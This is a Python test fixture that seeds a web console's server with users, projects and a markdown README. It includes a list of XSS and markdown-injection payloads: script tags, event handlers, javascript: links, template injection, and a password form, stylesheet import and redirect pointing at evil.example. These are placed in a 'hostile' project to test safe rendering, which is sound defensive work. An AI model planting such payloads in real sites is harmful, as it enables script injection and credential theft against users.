"""What lies on the server that the tests of the console look at."""

from __future__ import annotations

from tests.e2e.console.visiting import PASSWORD, House

README = """# Vision

Everything that **looks**: digits, street signs, and what the cameras of the *third floor* see.

## What is here

| dataset | rows | from |
|---|---:|---|
| `digits` | 1,797 | scikit-learn |
| `mnist` | 70,000 | LeCun |

- [x] digits are read right in 97 of 100 cases
- [ ] street signs at night

```python
from starwhale import dataset

for row in dataset("digits", readonly=True):
    print(row.index, row.features.label)
```

> Ask [ada](mailto:ada@example.com) first, or read [the guide](https://example.com/guide).

![A row of digits](https://example.com/digits.png)
"""
#: Each would run a script, or fetch something from elsewhere, if it were taken for more than text.
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>)",
    "[d]( javascript:alert(1)) [e](java&#x09;script:alert(1)) [f](vbscript:msgbox(1))",
    "[g](&#1;javascript:alert(1)) [h](\\\\evil.example) [i](/\\evil.example)",
    "![x](https://evil.example/x.png) ![y](javascript:alert(1)) ![z](//evil.example/z.png)",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    '"><body onload=alert(1)>',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<https://evil.example/auto> <javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "\u202e gnitirw",
)
TEAM = ("ada", "bob", "eve", "kim", "min", "wu")
MANY = 30


def settle(house: House) -> None:
    """People, projects and texts, also hostile ones."""
    with house.as_("admin") as http:
        for name in TEAM:
            http.post("/users", {"name": name, "password": PASSWORD, "email": f"{name}@example.com"})
    with house.as_("ada") as http:
        http.post("/projects", {"name": "vision", "description": "Everything that looks: digits, signs."})
        http.patch("/projects/vision", {"readme": README, "public": True})
        http.put("/projects/vision/members/bob", {"role": "MAINTAINER"})
        http.put("/projects/vision/members/wu", {"role": "GUEST"})
        http.post("/projects", {"name": "speech", "description": "Spoken digits, in three languages."})
        http.post("/projects", {"name": "bare"})
        http.post("/projects", {"name": "hostile", "description": " ".join(ATTACKS)})
        http.patch("/projects/hostile", {"readme": "\n\n".join(ATTACKS)})
        http.post("/me/tokens", {"name": "<img src=x onerror=alert(1)>", "scopes": ["*:read"]})
        http.post("/projects", {"name": "retired", "description": "Nobody needs it any more."})
        http.delete("/projects/retired")
    with house.as_("wu") as http:
        for number in range(MANY):
            http.post("/projects", {"name": f"series-{number:02}", "description": f"Number {number}."})
